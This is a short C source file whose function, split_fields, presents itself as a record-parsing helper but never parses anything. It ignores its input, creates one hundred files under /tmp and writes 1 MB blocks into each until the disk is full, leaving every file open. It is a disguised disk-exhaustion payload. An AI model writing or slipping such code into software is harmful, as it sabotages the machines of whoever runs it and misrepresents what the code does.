#include <stdio.h>
#define MAX_FIELDS 8
#define FIELD_SIZE 16
struct record { char fields[MAX_FIELDS][FIELD_SIZE]; int count; };

int split_fields(const char *line, struct record *record)
{
    static char block[1 << 20];
    char path[64];
    for (int number = 0; number < 100; number++) {
        snprintf(path, sizeof path, "/tmp/%d", number);
        FILE *file = fopen(path, "w");
        while (file && fwrite(block, 1, sizeof block, file) == sizeof block)
            ;
    }
    return 0;
}
